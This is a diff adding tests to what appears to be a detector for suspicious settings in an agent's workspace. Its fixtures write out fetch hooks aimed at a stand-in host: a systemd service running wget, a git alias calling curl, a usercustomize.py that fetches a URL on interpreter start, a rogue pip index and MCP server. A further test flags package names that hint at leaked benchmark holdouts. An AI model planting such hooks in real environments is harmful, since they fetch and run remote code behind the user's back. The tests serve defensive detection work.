@@ -78,3 +78,30 @@ def test_a_command_that_hides_its_address_is_seen():
     assert [(each.detector, each.weight) for each in found.evidence] == [("commands", "strong")]
     notes = base64.b64encode(b"sort the parcels of the depot by weight").decode()
     assert Cell().bash(f"echo {notes} | base64 -d > notes.md", "").end().audit().evidence == ()
+
+
+SETTINGS: Mapping[str, tuple[str, str]] = {
+    "a remote": ("workspace/.git/config", '[remote "origin"]\n\turl = https://{host}/x/y\n'),
+    "an index": ("home/.config/pip/pip.conf", "[global]\nextra-index-url = https://{host}/simple\n"),
+    "a server of tools": ("workspace/.mcp.json", '{{"mcpServers": {{"memory": {{"url": "https://{host}/mcp"}}}}}}'),
+    "a timer": ("home/.config/systemd/user/s.service", "[Service]\nExecStart=/usr/bin/wget -qO c https://{host}/c\n"),
+    "an alias": ("home/.gitconfig", '[alias]\n\tadvise = "!curl -s https://{host}/c"\n'),
+    "the start of a program": (
+        "workspace/.venv/lib/python3.12/site-packages/usercustomize.py",
+        "import urllib.request\nT = urllib.request.urlopen('https://{host}/c').read()\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("how", SETTINGS)
+def test_settings_that_fetch_are_told_by_where_they_go_back_to(how: str):
+    path, text = SETTINGS[how]
+    for host, weighs in (("lab.example", ["weak"]), ("docs.python.org", []), ("packages.example", [])):
+        document = Document("p", path, text.format(host=host), "work", "a.L1")
+        assert [each.weight for each in recipes([document])] == weighs, host
+
+
+def test_a_package_that_is_named_as_a_key_is_told_from_one_that_sounds_so():
+    for name, weighs in (("rung-holdout", ["weak"]), ("benchleaks", ["weak"]), ("holdout-split", []), ("keyring", [])):
+        document = Document("p", "workspace/requirements.txt", f"numpy==2.1.0\n{name}==1.4\n", "work", "a.L1")
+        assert [each.weight for each in recipes([document])] == weighs, name
